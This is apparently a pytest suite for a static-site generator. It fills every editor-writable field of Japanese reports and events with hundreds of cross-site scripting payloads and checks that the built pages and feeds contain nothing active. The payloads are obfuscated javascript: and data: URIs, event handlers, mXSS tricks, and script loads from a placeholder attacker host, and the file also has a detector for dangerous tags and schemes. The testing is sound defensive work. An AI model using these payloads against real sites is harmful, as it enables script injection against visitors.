"""Hundreds of attack strings in every place that an editor can write to: nothing active is made."""

import json
import re
from html.parser import HTMLParser
from io import BytesIO
from itertools import product
from pathlib import Path

import feedparser
import pytest
from conftest import run_build
from kairanban.build.site import read_site
from kairanban.reports.body import Prose
from kairanban.settings import Settings
from PIL import Image
from test_output import ADDRESS

CODE = "alert(1)"
HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationend")
ELEMENTS = (
    "<img alt=x src=a.jpg {h}={c}>",
    "<img alt=x src='a.jpg'{h}='{c}'>",
    "<svg {h}={c}>",
    "<svg/{h}={c}>",
    "<body {h}={c}>",
    "<details open {h}={c}>x</details>",
    "<a href='#' {h}={c}>x</a>",
    "<video><source {h}={c}></video>",
    "<p style='x' {h}='{c}'>x</p>",
    "<input autofocus {h}={c}>",
    "<math><mtext><p><img alt=x src=a.jpg {h}={c}></p></mtext></math>",
    "<section class=session id=x {h}={c}>x</section>",
)
TARGETS = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "&#106;avascript:{c}",
    "java&#x09;script:{c}",
    "java\tscript:{c}",
    "&#1;javascript:{c}",
    "javascript&colon;{c}",
    "vbscript:{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={c}>",
    "feed:javascript:{c}",
    "view-source:javascript:{c}",
    "blob:{c}",
    "filesystem:{c}",
    "//evil.example.net/x.js",
)
LINKS = (
    "[x]({t})",
    "[x](<{t}>)",
    "![x]({t})",
    "[x][r]\n\n[r]: {t}",
    "<{t}>",
    '<a href="{t}">x</a>',
    "<a href='{t}'>x</a>",
    '<img src="{t}" alt="x">',
    '<blockquote cite="{t}">x</blockquote>',
    '<form action="{t}"><button>x</button></form>',
    '<iframe src="{t}"></iframe>',
    '<object data="{t}"></object>',
    '<embed src="{t}">',
    '<base href="{t}">',
    '<link rel=stylesheet href="{t}">',
    '<meta http-equiv=refresh content="0;url={t}">',
    '<svg><a xlink:href="{t}"><text>x</text></a></svg>',
)
WHOLE = (
    "<script>{c}</script>",
    "<SCRIPT SRC=//evil.example.net/x.js></SCRIPT>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script\n>{c}</script\n>",
    "<script/x>{c}</script>",
    "<<script>{c}//<</script>",
    "<style>@import '//evil.example.net/x.css'</style>",
    '<p style="background:url(javascript:{c})">x</p>',
    "<template><script>{c}</script></template>",
    '<noscript><p title="</noscript><img alt=x src=a.jpg onerror={c}>"></noscript>',
    "<math><style><img alt=x src=a.jpg onerror={c}></style></math>",
    "<svg><script>{c}</script></svg>",
    "<svg><style><img alt=x src=a.jpg onerror={c}></style></svg>",
    '<!--<img src="--><img alt=x src=a.jpg onerror={c}//">',
    "<![CDATA[<script>{c}</script>]]>",
    "<?php echo 1 ?><script>{c}</script>",
    "`<script>{c}</script>`",
    "```\n</code></pre><script>{c}</script>\n```",
    "    </code><script>{c}</script>",
    '<div markdown="1">\n<script>{c}</script>\n</div>',
    "[^x]\n\n[^x]: <script>{c}</script>",
    '*[HTML]: "onmouseover={c}\nHTML',
    "| a |\n|---|\n| <script>{c}</script> |",
    "term\n: <script>{c}</script>",
    "## <script>{c}</script>（赤木さん）",
    "## 募集\n\n- **<script>{c}</script>**。x {: 申込先=javascript:{c} }",
    "## 募集\n\n- x {: #\"onclick={c} 申込先='<script>{c}</script>' }",
    "x {: onclick={c} style=x }",
    "# x {: onclick={c} }",
    "![x](a.jpg){: onerror={c} }",
    "{{<script>{c}</script>|<img alt=x src=a.jpg onerror={c}>}}",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "\\<script\\>{c}\\</script\\>",
    "&#2;call-0&#3;&#2;session-0&#3;\x02wzxhzdk:0\x03",
    '<ul class="calls"><li class="call" id="x" onclick="{c}">x</li></ul>',
    '<a id="page-main" href="#" target=_blank ping="//evil.example.net">x</a>',
)


def attacks() -> list[str]:
    """All of them."""
    made = [e.replace("{h}", h).replace("{c}", CODE) for e, h in product(ELEMENTS, HANDLERS)]
    made += [k.replace("{t}", t).replace("{c}", CODE) for k, t in product(LINKS, TARGETS)]
    made += [whole.replace("{{", "{").replace("}}", "}").replace("{c}", CODE) for whole in WHOLE]
    return made


class Active(HTMLParser):
    """Collects what could run, load or send something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {key.lower(): value or "" for key, value in attrs}
        data = given.get("type") == "application/ld+json"
        own = tag == "script" and re.fullmatch(
            r"[./]*theme/[a-z]+\.[0-9a-f]+\.js", given.get("src", "")
        )
        if tag == "script" and not own and not data:
            self.found.append(f"<{tag} {given}>")
        forbidden = "style iframe object embed base form input button textarea svg math template"
        if tag in forbidden.split() or (tag == "meta" and "http-equiv" in given):
            self.found.append(f"<{tag}>")
        for key, value in given.items():
            if key.startswith("on") or key in {
                "style",
                "srcdoc",
                "formaction",
                "ping",
                "xlink:href",
            }:
                self.found.append(f"{tag} {key}={value}")
            if key in {"href", "src", "cite", "action", "data"}:
                target = re.sub(r"[\x00-\x20]", "", value).lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", target)
                if scheme and scheme[1] not in {"http", "https", "mailto", "tel", "webcal"}:
                    self.found.append(f"{tag} {key}={value}")
                foreign = scheme or target.startswith("//")
                if key == "src" and foreign and not target.startswith(ADDRESS):
                    self.found.append(f"{tag} {key}={value}")


def active(html: str) -> list[str]:
    """What is active in a page or a part of one."""
    parser = Active()
    parser.feed(html)
    parser.close()
    return parser.found


REPORT = """---
題: 報告 {one}
公開日: 2024-01-05
日時: 2023-12-{day:02}
会場: {{ 名称: {quoted}, 住所: {quoted} }}
概要: {one}
参加者数: 10名 {one}
掲載同意: 全員
執筆: {one}
画像の説明: {one}
見出し画像: a.jpg
前書き: |
{block}
備考: |
{block}
やさしい日本語: |
{block}
タグ: x
---

{attack}

## 会（赤木さん）

{attack}

![{one}](a.jpg "{one}")
"""
EVENT = """---
題: 催し {one}
日時: 2099年1月{day}日
オンライン: Zoom
内容: {one}
参加費: {one}
主催: {quoted}
登壇者: {quoted}
対象: {one}
変更理由: {one}
状態: 中止
問合せ: {one}
申込み: {one}
プログラム: |
{block}
---

{attack}
"""


# The theme's own form, once on each page.
FINDER = re.compile(r'<form class="finder" role="search" action="[./]*search/">.*?</form>', re.S)


def test_the_net_itself_catches() -> None:
    for text in ("<img src=a.jpg onerror=a>", "<script>a</script>", "<a href='javascript:a'>x</a>"):
        assert active(text)
    assert active("<p>onerror=alert(1) javascript:alert(1)</p>") == []


def picture() -> bytes:
    """A tiny JPEG."""
    data = BytesIO()
    Image.new("RGB", (8, 8)).save(data, "JPEG")
    return data.getvalue()


def written(content: Path) -> int:
    """Writes a report and an event for each attack; gives their number."""
    (content / "events").mkdir(parents=True)
    (content / "reports").mkdir()
    for folder in ("events", "reports"):
        (content / folder / "a.jpg").write_bytes(picture())
    for number, attack in enumerate(attacks()):
        one = "x " + re.sub("[\\s\x02\x03]+", " ", attack)
        block = re.sub("[\x02\x03]", "", attack)
        values = {
            "one": one,
            "quoted": json.dumps(one.replace("、", "").replace("/", "／"), ensure_ascii=False),
            "block": "\n".join("  " + line for line in block.split("\n")),
            "attack": block,
            "day": number % 28 + 1,
        }
        (content / f"reports/attack-{number}.md").write_text(REPORT.format(**values), "utf-8")
        (content / f"events/attack-{number}.md").write_text(EVENT.format(**values), "utf-8")
    return 2 * (number + 1)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The output of a site of which every text is an attack.

    Some stop the build, as links to nowhere do; their files are taken out first.
    """
    folder = tmp_path_factory.mktemp("attacked")
    content = folder / "content"
    count = written(content)
    found = read_site(content, Settings(), Prose()).loaded.problems
    stopped = {problem.path for problem in found}
    for path in stopped:
        (content / path).unlink()
    assert len(stopped) < count * 0.2, sorted((p.path, p.code, p.params) for p in found)[:40]
    made = run_build(folder / "output", content=content)
    assert made.returncode == 0, made.stderr[-2000:]
    return folder / "output"


def test_nothing_active_is_published(attacked: Path) -> None:
    pages = list(attacked.rglob("*.html"))
    assert len(pages) > 600
    ours = attacked / "search" / "index.html"  # which holds nothing of editors
    found = {
        page.parent.name: active(FINDER.sub("", page.read_text("utf-8"), count=1))
        for page in pages
        if page != ours
    }
    assert {name: each for name, each in found.items() if each} == {}


def test_structured_data_cannot_be_left(attacked: Path) -> None:
    script = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.DOTALL)
    for page in attacked.rglob("*.html"):
        for document in script.findall(page.read_text("utf-8")):
            assert "<" not in document
            json.loads(document)


def test_nothing_active_is_in_feeds(attacked: Path) -> None:
    for name in ("reports", "events", "calls"):
        feed = feedparser.parse((attacked / f"feeds/{name}.atom").read_bytes(), sanitize_html=False)
        assert not feed.bozo
        assert feed.entries
        for entry in feed.entries:
            assert active(entry.content[0].value) == []
            assert active(entry.title if entry.title_detail.type == "text/html" else "") == []


def test_the_words_of_an_attack_are_shown_as_words(attacked: Path) -> None:
    page = (attacked / "reports/attack-0/index.html").read_text("utf-8")
    assert "x &lt;img alt=x src=a.jpg onerror=alert(1)&gt;" in page
